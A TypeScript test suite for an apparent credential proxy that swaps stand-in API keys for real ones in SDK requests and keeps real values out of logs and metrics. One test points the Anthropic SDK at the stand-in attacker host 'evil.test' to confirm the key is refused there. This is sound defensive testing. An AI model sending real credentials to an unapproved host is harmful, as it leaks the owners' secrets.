import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { CLIENTS, type ClientCommand } from '../helpers/client-commands.js';
import { eventually } from '../helpers/harness/index.js';
import { startSandboxClients, type SandboxClients, type Swap } from '../helpers/sandbox-clients.js';

/**
 * Explicit mode (issue #12 §2 and §3), Node clients on Node 20, which ignores HTTPS_PROXY: each
 * runs unchanged with nothing but the sandbox's env, whose NODE_OPTIONS loads the kit's preload.
 * The official SDKs put the key where their major puts it — @anthropic-ai/sdk 0.x in x-api-key,
 * 1.x in `Authorization: Bearer` — and both must be swapped; sent to any other host they are refused.
 * openai 4.x is absent on purpose: it dials through its own agentkeepalive agent, which no
 * environment variable reaches (docs/operations.md §3: transparent mode only).
 */
let clients: SandboxClients;

before(async () => {
  // An api-key secret on x-api-key without the provider shortcut: a Bearer stand-in is not in its shape.
  clients = await startSandboxClients('node', {
    CLAUDE_KEY: { name: 'claude-custom', auth: { type: 'api-key', header: 'x-api-key' }, hosts: ['api.anthropic.com'] },
  });
});

after(() => clients?.close());

/** Runs a client with the sandbox's env only; it must exit 0. */
async function run(command: ClientCommand): Promise<string> {
  const res = await clients.run(command.file, [...command.args]);
  assert.equal(res.code, 0, res.out);
  return res.out;
}

const node = (script: string) => run({ file: process.execPath, args: ['--input-type=module', '-e', script] });
const MESSAGE = "{ model: 'claude', max_tokens: 1, messages: [{ role: 'user', content: 'hi' }] }";
const ANTHROPIC_1: Swap = { secret: 'anthropic', header: 'authorization' };
const ANTHROPIC_0: Swap = { secret: 'anthropic', header: 'x-api-key' };

describe('explicit mode: Node clients with the sandbox env alone', { concurrency: true }, () => {
  for (const name of ['fetch', 'https', 'undici', 'axios'] as const) {
    test(`${name}`, async () => {
      clients.assertSwapped(name, await run(CLIENTS[name](`https://api.openai.com/v1/${name}`)), `/v1/${name}`);
    });
  }

  test('openai (current major)', async () => {
    clients.assertSwapped('openai', await run(CLIENTS.openai('https://api.openai.com/v1/models?c=openai')), '/v1/models?c=openai');
  });

  test('@anthropic-ai/sdk 1.x: Authorization: Bearer, swapped in that shape (catalogue: also accepted)', async () => {
    const out = await run(CLIENTS.anthropic('https://api.anthropic.com/v1/messages?c=1'));
    assert.match(out, /Anthropic\/JS 1\./);
    clients.assertSwapped('anthropic 1.x', out, '/v1/messages?c=1', ANTHROPIC_1);
  });

  test('@anthropic-ai/sdk 0.x: x-api-key', async () => {
    const out = await run(CLIENTS.anthropic('https://api.anthropic.com/v1/messages?c=0', 'anthropic-sdk-v0'));
    assert.match(out, /Anthropic\/JS 0\./);
    clients.assertSwapped('anthropic 0.x', out, '/v1/messages?c=0', ANTHROPIC_0);
  });
});

describe('a stand-in is swapped wherever the SDK put it, and only for its hosts (§3)', { concurrency: true }, () => {
  for (const [label, pkg] of [
    ['1.x', '@anthropic-ai/sdk'],
    ['0.x', 'anthropic-sdk-v0'],
  ] as const) {
    test(`@anthropic-ai/sdk ${label} aimed at another host: 403 credential_host_mismatch, nothing forwarded`, async () => {
      const script = `import Anthropic from '${pkg}';
        try { await new Anthropic({ baseURL: 'https://evil.test', maxRetries: 0 }).messages.create(${MESSAGE}); console.log('forwarded'); }
        catch (err) { console.log(err.status, err.headers?.get?.('x-credproxy-reason') ?? err.headers?.['x-credproxy-reason']); }`;
      const out = await node(script);
      assert.match(out, /^403 credential_host_mismatch/m);
      assert.ok(!clients.world.upstream.seen.some((seen) => seen.headers.host === 'evil.test'), 'the upstream saw nothing for evil.test');
      clients.canaries.assertAbsent(`anthropic ${label}'s output`, out);
    });
  }

  test('@anthropic-ai/sdk 1.x with a secret that only names x-api-key: swapped in place in Authorization, audited as in_place', async () => {
    const out = await run(CLIENTS.anthropic('https://api.anthropic.com/v1/messages?c=custom', '@anthropic-ai/sdk', '{ apiKey: process.env.CLAUDE_KEY }'));
    clients.canaries.assertAbsent('the SDK output', out);
    assert.ok(out.includes(clients.env.CLAUDE_KEY!), 'the echo shows the stand-in back');
    const seen = clients.world.upstream.seen.findLast((s) => s.url === '/v1/messages?c=custom');
    assert.equal(seen?.headers.authorization, `Bearer ${clients.canaries.get('CLAUDE_KEY')}`, 'the real value went in the header the SDK used');

    const row = await eventually('the in-place request row', async () => {
      const rows = (await clients.world.daemon.api('GET', `/sandboxes/${clients.sandbox.id}/network`)).json.data as Array<Record<string, unknown>>;
      return rows.find((r) => r.kind === 'request' && typeof r.match_rule === 'string' && r.match_rule.includes('in place'));
    });
    assert.equal(row.match_rule, 'secret "claude-custom" allows api.anthropic.com (in place: authorization)');
    const metrics = (await clients.world.daemon.api('GET', '/metrics')).text;
    assert.match(metrics, /credproxy_injections_total\{secret="claude-custom",auth_type="in_place"\} 1/);
    assert.match(metrics, /credproxy_injections_total\{secret="anthropic",auth_type="bearer"\} [1-9]/);
  });
});

test('§7: no real value in the daemon log, /metrics or the audit trail after every client', async () => {
  clients.canaries.assertAbsent('the daemon log', clients.world.daemon.logs.text);
  clients.canaries.assertAbsent('/metrics', (await clients.world.daemon.api('GET', '/metrics')).text);
  clients.canaries.assertAbsent('the network log', (await clients.world.daemon.api('GET', `/sandboxes/${clients.sandbox.id}/network?limit=1000`)).text);
});
